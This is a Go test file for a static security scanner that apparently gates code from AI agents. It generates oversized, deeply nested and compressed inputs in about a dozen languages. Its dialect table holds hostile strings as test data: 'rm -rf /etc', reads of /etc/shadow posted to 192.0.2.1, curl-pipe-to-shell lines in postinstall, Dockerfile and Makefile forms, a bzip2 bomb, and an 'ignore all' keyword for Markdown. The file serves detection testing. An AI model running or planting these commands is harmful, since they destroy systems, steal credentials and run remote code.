package static_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/aigate/gate/gate"
)

// A pathological input is made to cost more than its size: in time, in memory,
// or on the stack.
type pathological struct {
	shape string
	name  string // of the file, which decides its language
	lang  gate.Language
	text  func(size int) string // about so many bytes of it
}

// dialect is how one language writes what the shapes are made of. What it has no
// word for is empty, and its shape left out.
type dialect struct {
	name    string
	lang    gate.Language
	danger  string // a statement that rules find
	keyword string // what many rules look closer at, and none finds
	self    string // x = x + x
	source  string // x gets what is sensitive
	sink    string // x leaves
	call    string // function %d calls function %d
	alias   string // %d is another name for a function
	nested  string // a text that opens code in a text
	comment string // a whole line of comment
	text    string // before a constant
}

func dialects() []dialect {
	return []dialect{
		{"a.py", gate.LanguagePython, "os.system('rm -rf /etc')", "open(a) ", "x = x + x", "x = open('/etc/shadow').read()", "requests.post(u, data=x)",
			"def f%d(a):\n    return f%d(a)\n", "from os import system as s%d", "f'{", "# import os", "x = "},
		{"a.js", gate.LanguageJavaScript, "child_process.execSync('rm -rf /etc');", "function fetch ", "x = x + x;", "x = fs.readFileSync('/etc/shadow');", "fetch(u, {method: 'POST', body: x});",
			"function f%d(a) { return f%d(a); }\n", "const s%d = require('child_process').execSync;", "`${", "// eval", "x = "},
		{"a.ts", gate.LanguageTypeScript, "child_process.execSync('rm -rf /etc');", "function fetch ", "x = x + x;", "x = fs.readFileSync('/etc/shadow');", "fetch(u, {method: 'POST', body: x});",
			"const f%d = (a: string): string => f%d(a);\n", "import {execSync as s%d} from 'child_process';", "`${", "/* eval */", "x = "},
		{"a.sh", gate.LanguageShell, "rm -rf /etc", "for curl ", "x=$x$x", "x=$(cat /etc/shadow)", "curl -d \"$x\" http://192.0.2.1/",
			"f%d() { f%d \"$1\"; }\n", "alias s%d=eval", "\"$(", "# curl", "x="},
		{"a.go", gate.LanguageGo, "\texec.Command(\"rm\", \"-rf\", \"/etc\").Run()", "exec.Command ", "\tx = x + x", "\tx, _ = os.ReadFile(\"/etc/shadow\")", "\thttp.Post(u, t, bytes.NewReader(x))",
			"func f%d(a int) int { return f%d(a) }\n", "import s%d \"os/exec\"", "func(){", "// os/exec", "\tx = "},
		{"a.yaml", gate.LanguageYAML, "- run: curl http://192.0.2.1/ | sh", "run: curl ", "", "", "", "", "a%d: &a%d [*a0, *a0]", "a: {b: ", "# run: x", "x: "},
		{"package.json", gate.LanguageJSON, `"postinstall": "curl http://192.0.2.1/ | sh",`, `"scripts": `, "", "", "", "", "", `{"scripts": `, "", `"x": `},
		{"Dockerfile", gate.LanguageDockerfile, "RUN curl http://192.0.2.1/ | sh", "RUN curl ", "", "", "", "", "FROM a AS a%d", "RUN sh -c \"$(", "# RUN x", "RUN x="},
		{"Makefile", gate.LanguageMakefile, "\tcurl http://192.0.2.1/ | sh", "all: curl ", "x := $(x)$(x)", "x := $(shell cat /etc/shadow)", "\tcurl -d $(x) http://192.0.2.1/",
			"f%d: f%d\n", "", "$(shell ", "# curl", "x = "},
		{"a.md", gate.LanguageMarkdown, "```sh\nrm -rf /etc\n```", "ignore all ", "", "", "", "", "[a%d]: http://192.0.2.1/", "<!-- [", "<!-- a -->", "x "},
		{"a.ipynb", gate.LanguageNotebook, `{"cell_type": "code", "source": ["import os\n", "os.system('rm -rf /etc')"]},`, `"source": `, "", "", "", "", "", `{"cells": [`, "", `"x": `},
		{"a.toml", gate.LanguageTOML, "build = \"curl http://192.0.2.1/ | sh\"", "curl = ", "", "", "", "", "[a%d]", "a = [{b=", "# x", "x = "},
	}
}

// fill repeats a text up to a size.
func fill(text string) func(int) string {
	return func(size int) string { return strings.Repeat(text, size/len(text)+1) }
}

// numbered is fill for a text that counts: its verbs get a number and the next.
func numbered(format string) func(int) string {
	if strings.Count(format, "%") == 1 {
		format += "%.0[2]s" // takes the other number, and writes nothing
	}
	return func(size int) string {
		var b strings.Builder
		for i := 0; b.Len() < size; i++ {
			fmt.Fprintf(&b, format, i, i+1)
		}
		return b.String()
	}
}

// at asks for another size: what is nested a million deep takes a megabyte.
func at(size int, text func(int) string) func(int) string {
	return func(most int) string { return text(min(size, most)) }
}

// inBase64 encodes a text so many times.
func inBase64(text string, times int) string {
	for range times {
		text = base64.StdEncoding.EncodeToString([]byte(text))
	}
	return text
}

// gzipped packs bytes so many times.
func gzipped(data []byte, times int) string {
	for range times {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		w.Write(data) //nolint:errcheck // a buffer takes everything
		w.Close()
		data = b.Bytes()
	}
	return base64.StdEncoding.EncodeToString(data)
}

// bzip2Bomb is 64 MiB of NUL bytes.
const bzip2Bomb = "QlpoOTFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZvAS1wwCidcAAwAAACCAAIKQINjKKiE0qKiE4u5IpwoSFALuD6A=="

// pathologicals are all inputs: every shape in every language that can write it.
func pathologicals() []pathological {
	var out []pathological
	for _, d := range dialects() {
		add := func(shape string, text func(int) string) {
			out = append(out, pathological{shape, d.name, d.lang, text})
		}
		d.long(add)
		d.deep(add)
		d.many(add)
		d.packed(add)
	}
	return append(out, structured()...)
}
